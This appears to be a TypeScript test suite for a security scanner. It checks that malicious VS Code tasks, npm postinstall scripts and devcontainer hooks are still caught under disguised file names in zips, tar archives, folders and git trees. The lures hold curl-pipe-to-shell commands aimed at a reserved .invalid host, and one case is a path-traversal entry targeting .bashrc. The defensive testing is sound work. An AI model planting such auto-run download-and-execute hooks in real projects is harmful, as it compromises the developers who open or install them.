/**
 * Names the extractor or the platform reads differently from the bytes stored: a zip's Info-ZIP Unicode Path field
 * (0x7075, the name unzip writes), `.` segments and repeated slashes (`p/.vscode/./tasks.json`, `p//package.json`),
 * names that only match on a case-insensitive file system (`.VSCode/Tasks.json`, `Package.JSON`: the macOS and Windows
 * default) and names Windows writes without their trailing dots and spaces (`.vscode./tasks.json`, `"package.json "`).
 * In zips made by Python's zipfile, GNU tar archives, folders and git trees (git daemon); collisions where a benign
 * file and a lure land on one path; and an ordinary tree with mixed-case names that must still pass complete.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { ScanResult } from '../../src/types.js';
import { validateReport } from '../support/report-schema.js';
import { git, startGitDaemon, CLEAN_GIT_ENV, type Daemon } from '../git-daemon.js';
import { sandbox, scanHostile, write, type Sandbox } from './harness.js';

/**
 * Lures that block only in their role: no known indicator in them (the payload host is a reserved .invalid name), so
 * a scan that reads them at the wrong path finds nothing and passes. That is what these cases are about.
 */
const TASKS_LURE = JSON.stringify({
  version: '2.0.0',
  tasks: [{ label: 'setup', type: 'shell', command: 'curl -s https://cdn.example.invalid/setup.sh | sh', runOptions: { runOn: 'folderOpen' } }],
});
const PACKAGE_LURE = JSON.stringify({ name: 'take-home', version: '1.0.0', scripts: { postinstall: 'curl -s https://cdn.example.invalid/i.sh | bash' } });

const BENIGN_TASKS = JSON.stringify({ version: '2.0.0', tasks: [{ label: 'build', type: 'npm', script: 'build' }] });
const BENIGN_PACKAGE = JSON.stringify({ name: 'take-home', version: '1.0.0', scripts: { test: 'node --test' } });

/** A zip written by Python's zipfile: [name, content, unicode path?] (the extra field carries the CRC unzip checks). */
function pythonZip(file: string, entries: [string, string, string?][]): void {
  execFileSync(
    'python3',
    [
      '-c',
      `import json, struct, sys, zipfile, zlib
with zipfile.ZipFile(sys.argv[1], 'w') as z:
    for name, data, upath in json.loads(sys.argv[2]):
        zi = zipfile.ZipInfo(name)
        if upath:
            u = upath.encode('utf-8')
            body = struct.pack('<BI', 1, zlib.crc32(name.encode('utf-8'))) + u
            zi.extra = struct.pack('<HH', 0x7075, len(body)) + body
        z.writestr(zi, data)`,
      file,
      JSON.stringify(entries.map(([n, d, u]) => [n, d, u ?? ''])),
    ],
    { stdio: ['ignore', 'pipe', 'pipe'] },
  );
}

function assertLureSeenAt(result: ScanResult | undefined, file: string, stored: string): void {
  assert.ok(result);
  assert.deepEqual(validateReport(result), [], 'the report (with evidence of links and names) fits the shipped schema');
  assert.equal(result.verdict, 'block', JSON.stringify(result.findings.map((f) => [f.ruleId, f.location.file])));
  const f = result.findings.find((x) => x.location.file === file);
  assert.ok(f, `no finding at ${file}: ${JSON.stringify(result.findings.map((x) => x.location.file))}`);
  assert.ok(f.evidence.some((e) => e.value.includes(JSON.stringify(stored))), `the evidence keeps the stored name ${stored}: ${JSON.stringify(f.evidence)}`);
}

describe('hostile names: what the extractor and the platform see (CLI, sandboxed)', function () {
  this.timeout(180_000);
  let sb: Sandbox;
  afterEach(() => sb?.cleanup());

  it('N01 a zip entry whose Unicode Path field names .vscode/tasks.json: unzip writes it there, the scan blocks', async () => {
    sb = sandbox('n01');
    const zip = path.join(sb.target, 'n01.zip');
    pythonZip(zip, [
      ['p/README.md', '# take-home\n'],
      ['p/docs/notes.json', TASKS_LURE, 'p/.vscode/tasks.json'],
    ]);
    const out = path.join(sb.root, 'unzipped');
    execFileSync('unzip', ['-q', zip, '-d', out]);
    assert.equal(readFileSync(path.join(out, 'p', '.vscode', 'tasks.json'), 'utf8'), TASKS_LURE, 'unzip wrote the Unicode Path name');
    assert.equal(existsSync(path.join(out, 'p', 'docs', 'notes.json')), false);
    const { result } = await scanHostile(sb, zip);
    assertLureSeenAt(result, '.vscode/tasks.json', 'p/docs/notes.json');
  });

  it('N02 a Unicode Path field that climbs out (../) is refused: the scan is incomplete', async () => {
    sb = sandbox('n02');
    const zip = path.join(sb.target, 'n02.zip');
    pythonZip(zip, [['p/a.txt', 'hello\n', '../../.bashrc']]);
    const { result } = await scanHostile(sb, zip);
    assert.equal(result!.complete, false);
    assert.ok(result!.diagnostics.some((d) => d.code === 'archive-unsafe-path' && /Unicode Path/.test(d.message)));
  });

  it('N03 "." segments and repeated slashes in zip names: unzip collapses them, the scan blocks', async () => {
    sb = sandbox('n03');
    const zip = path.join(sb.target, 'n03.zip');
    pythonZip(zip, [
      ['p/.vscode/./tasks.json', TASKS_LURE],
      ['p//package.json', PACKAGE_LURE],
      ['p/src/index.js', 'module.exports = 1;\n'],
    ]);
    const out = path.join(sb.root, 'unzipped');
    execFileSync('unzip', ['-q', zip, '-d', out]);
    assert.equal(readFileSync(path.join(out, 'p', '.vscode', 'tasks.json'), 'utf8'), TASKS_LURE);
    assert.equal(readFileSync(path.join(out, 'p', 'package.json'), 'utf8'), PACKAGE_LURE);
    const { result } = await scanHostile(sb, zip);
    assertLureSeenAt(result, '.vscode/tasks.json', '.vscode/./tasks.json');
    // `p//package.json` less its wrapper folder is stored as `/package.json`, which the manifest parser already reads as
    // a package.json; the copy at `package.json` is then an echo of the same finding and is folded into it.
    assert.ok(result!.findings.some((f) => f.location.file === '/package.json' && f.ruleId === 'lifecycle-script'), JSON.stringify(result!.findings.map((f) => [f.ruleId, f.location.file])));
  });

  it('N04 names that match only case-insensitively (.VSCode/Tasks.json, Package.JSON, .DevContainer/DevContainer.json) in a folder', async () => {
    sb = sandbox('n04');
    write(path.join(sb.target, '.VSCode', 'Tasks.json'), TASKS_LURE);
    write(path.join(sb.target, 'Package.JSON'), PACKAGE_LURE);
    write(path.join(sb.target, '.DevContainer', 'DevContainer.json'), JSON.stringify({ postCreateCommand: 'curl -s https://cdn.example.invalid/c.sh | sh' }));
    const { result } = await scanHostile(sb);
    assertLureSeenAt(result, '.vscode/tasks.json', '.VSCode/Tasks.json');
    assertLureSeenAt(result, 'package.json', 'Package.JSON');
    assert.ok(result!.findings.some((f) => f.location.file === '.devcontainer/devcontainer.json'), JSON.stringify(result!.findings.map((f) => f.location.file)));
  });

  it('N05 names Windows writes without trailing dots and spaces (.vscode./tasks.json, "package.json ") in a GNU tar', async () => {
    sb = sandbox('n05');
    const src = path.join(sb.root, 'src', 'p');
    write(path.join(src, '.vscode.', 'tasks.json'), TASKS_LURE);
    write(path.join(src, 'package.json '), PACKAGE_LURE);
    const tarFile = path.join(sb.target, 'n05.tar');
    execFileSync('tar', ['-cf', tarFile, '-C', path.dirname(src), 'p']);
    const { result } = await scanHostile(sb, tarFile);
    assertLureSeenAt(result, '.vscode/tasks.json', '.vscode./tasks.json');
    assertLureSeenAt(result, 'package.json', 'package.json ');
  });

  it('N06 collisions: a benign file and a lure that land on one path are both scanned (zip, either order)', async () => {
    sb = sandbox('n06');
    for (const order of [0, 1]) {
      const zip = path.join(sb.target, `n06-${order}.zip`);
      const pair: [string, string][] = [
        ['p/.vscode/tasks.json', BENIGN_TASKS],
        ['p/.VSCODE/TASKS.JSON', TASKS_LURE],
      ];
      const pkgs: [string, string][] = [
        ['p/package.json', BENIGN_PACKAGE],
        ['p/package.json.', PACKAGE_LURE],
      ];
      pythonZip(zip, order ? [...pair.reverse(), ...pkgs.reverse()] : [...pair, ...pkgs]);
      const { result } = await scanHostile(sb, zip);
      assertLureSeenAt(result, '.vscode/tasks.json', '.VSCODE/TASKS.JSON');
      assertLureSeenAt(result, 'package.json', 'package.json.');
    }
  });

  it('N07 an ordinary tree with mixed-case names (README.md, Makefile, src/App.tsx, docs/Setup.md) passes, complete', async () => {
    sb = sandbox('n07');
    write(path.join(sb.target, 'README.md'), '# app\n');
    write(path.join(sb.target, 'Makefile'), 'test:\n\tnpm test\n');
    write(path.join(sb.target, 'src', 'App.tsx'), 'export const App = () => null;\n');
    write(path.join(sb.target, 'docs', 'Setup.md'), 'Run `npm ci`.\n');
    write(path.join(sb.target, 'package.json'), BENIGN_PACKAGE);
    write(path.join(sb.target, '.vscode', 'Settings.json'), JSON.stringify({ 'editor.tabSize': 2 }));
    const { result } = await scanHostile(sb);
    assert.equal(result!.verdict, 'pass');
    assert.equal(result!.complete, true, JSON.stringify(result!.diagnostics));
  });
});

describe('hostile names in a git tree (CLI, git daemon, sandboxed)', function () {
  this.timeout(180_000);
  let sb: Sandbox;
  let daemon: Daemon;

  before(async () => {
    sb = sandbox('git-names');
    const served = path.join(sb.root, 'served');
    const work = path.join(sb.root, 'work');
    mkdirSync(served);
    write(path.join(work, '.VSCode', 'Tasks.json'), TASKS_LURE);
    write(path.join(work, 'Package.Json'), PACKAGE_LURE);
    git(work, ['init', '-q', '-b', 'main']);
    git(work, ['add', '-A']);
    git(work, ['commit', '-q', '-m', 'names']);
    execFileSync('git', ['clone', '-q', '--bare', work, path.join(served, 'names.git')], { env: CLEAN_GIT_ENV });
    daemon = await startGitDaemon(served);
  });

  after(async () => {
    await daemon?.stop();
    sb?.cleanup();
  });

  it('N08 .VSCode/Tasks.json and Package.Json in a git tree (a macOS or Windows clone opens them as the lures)', async () => {
    const { result } = await scanHostile(sb, daemon.url('names'));
    assertLureSeenAt(result, '.vscode/tasks.json', '.VSCode/Tasks.json');
    assertLureSeenAt(result, 'package.json', 'Package.Json');
  });
});
